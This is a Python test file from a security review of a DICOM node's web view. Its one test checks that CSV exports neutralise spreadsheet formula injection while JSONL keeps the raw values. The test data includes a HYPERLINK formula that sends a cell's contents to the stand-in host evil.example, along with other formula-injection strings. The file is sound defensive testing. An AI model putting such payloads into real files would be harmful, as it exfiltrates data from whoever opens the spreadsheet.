"""The web view's security review: each finding's fix, checked in-process (Starlette's test
client against the real app and a real SQLite log) unless the real server is needed."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from starlette.testclient import TestClient

from dicomnode.logdb.store import LogStore
from dicomnode.web.app import build_app
from dicomnode.web.passwords import hash_password
from dicomnode.web.settings import WebSettings
from tests.test_web_review import insert_decision

TOKEN = "reader-token-0123456789"
PASSWORD = "correct horse battery"
REVIEWERS = {"ana": hash_password(PASSWORD)}
BASE = "http://127.0.0.1"


@pytest.fixture
def store(tmp_path):
    with LogStore.open(f"sqlite:///{tmp_path / 'log.db'}") as log:
        yield log


def client_for(store: LogStore, **settings) -> TestClient:
    settings.setdefault("token", TOKEN)
    settings.setdefault("reviewers", REVIEWERS)
    return TestClient(build_app(store, WebSettings(**settings)), base_url=BASE)


def bearer() -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKEN}"}


def csrf_of(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def login(client: TestClient, password: str = PASSWORD, name: str = "ana"):
    token = csrf_of(client.get("/login").text)
    return client.post("/login", data={"csrf": token, "name": name, "password": password,
                                       "next": "/review"}, follow_redirects=False)  # fmt: skip


# 1. CSV formula injection


def test_csv_export_defuses_formulas_and_jsonl_keeps_values(store):
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    row = insert_decision(store, 1, calling_ae="=1+1", patient_id="+41", decision_key="k1",
                          accession_number="-2+3", body_part_examined="@SUM(A1)")
    store.record_verdict(row, "ana", "wrong", "PA", hyperlink)
    client = client_for(store)
    (exported,) = csv.DictReader(io.StringIO(client.get("/export.csv", headers=bearer()).text))
    assert exported["calling_ae"] == "'=1+1" and exported["patient_id"] == "'+41"
    assert exported["accession_number"] == "'-2+3"
    assert exported["body_part_examined"] == "'@SUM(A1)"
    assert exported["verdict_note"] == "'" + hyperlink
    assert exported["modality"] == "CR" and exported["verdict"] == "wrong"  # plain: untouched
    (line,) = client.get("/export.jsonl", headers=bearer()).text.splitlines()
    values = json.loads(line)
    assert values["calling_ae"] == "=1+1" and values["verdict_note"] == hyperlink
